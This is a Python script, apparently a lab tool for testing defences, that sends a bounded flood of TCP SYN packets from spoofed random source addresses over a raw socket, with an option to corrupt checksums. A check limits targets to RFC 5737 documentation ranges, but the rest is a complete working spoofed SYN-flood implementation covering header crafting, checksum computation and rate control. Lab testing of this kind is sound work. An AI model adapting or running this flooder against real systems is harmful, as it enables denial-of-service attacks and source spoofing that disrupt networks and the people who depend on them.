"""A bounded SYN flood from spoofed sources, for the lab only: COUNT TCP SYNs to HOST:PORT at
about RATE per second, each from a random address of PREFIX and a random port, sent with a raw
socket from the namespace it runs in. Stops after COUNT packets or MAX_SECONDS, whichever comes
first; waits DELAY seconds before the first. With "badsum" each SYN's TCP checksum is wrong (a
SYN the backend would drop unanswered). Prints one JSON line: {"sent", "start" (the monotonic
clock at the first), "seconds", "rate"}.

    synflood.py HOST PORT PREFIX COUNT RATE [DELAY] [MAX_SECONDS] [badsum]

Nothing answers for the spoofed addresses: the lab routes them into a blackhole on the switch's
side, so SYN-ACKs die there. HOST must be a lab address (a documentation range, RFC 5737).
"""

from __future__ import annotations

import ipaddress
import json
import random
import socket
import struct
import sys
import time

DOC_RANGES = [
    ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
]
BURST = 64  # packets sent between looks at the clock


def _sum16(data: bytes) -> int:
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def main() -> int:
    host, port, prefix = sys.argv[1], int(sys.argv[2]), ipaddress.ip_network(sys.argv[3])
    count, rate = int(sys.argv[4]), float(sys.argv[5])
    delay = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
    max_seconds = float(sys.argv[7]) if len(sys.argv) > 7 else 60.0
    spoil = 0x5A5A if sys.argv[8:9] == ["badsum"] else 0  # flips some bits of each checksum
    dst = ipaddress.ip_address(host)
    if not any(dst in n for n in DOC_RANGES) or not any(prefix.subnet_of(n) for n in DOC_RANGES):
        print(f"refused: {host} and {prefix} must lie in the documentation ranges", file=sys.stderr)
        return 2
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    first, hosts = int(prefix.network_address) + 1, prefix.num_addresses - 2
    daddr = dst.packed
    # TCP header without ports and sequence number: data offset 5, SYN, window 64240
    tail = struct.pack("!IBBHHH", 0, 5 << 4, 0x02, 64240, 0, 0)
    # the checksum's constant part: the pseudo-header's destination, protocol and length,
    # the destination port and the rest of the header
    fixed = _sum16(daddr) + 6 + 20 + port + _sum16(tail)
    rng = random.Random(5737)
    time.sleep(delay)
    start = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - start < max_seconds:
        for _ in range(min(BURST, count - sent)):
            saddr = struct.pack("!I", first + rng.randrange(hosts))
            sport, seq = rng.randrange(1024, 65536), rng.getrandbits(32)
            c = fixed + _sum16(saddr) + sport + (seq >> 16) + (seq & 0xFFFF)
            while c >> 16:
                c = (c & 0xFFFF) + (c >> 16)
            csum = struct.pack("!H", ~c & 0xFFFF ^ spoil)
            tcp = struct.pack("!HHI", sport, port, seq) + tail[:8] + csum + tail[10:]
            # IP header: the kernel fills in the total length, id and checksum (raw(7))
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, saddr, daddr)
            s.sendto(ip + tcp, (host, 0))
            sent += 1
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    seconds = time.monotonic() - start
    print(
        json.dumps(
            {
                "sent": sent,
                "start": start,
                "seconds": round(seconds, 3),
                "rate": round(sent / seconds),
            }
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
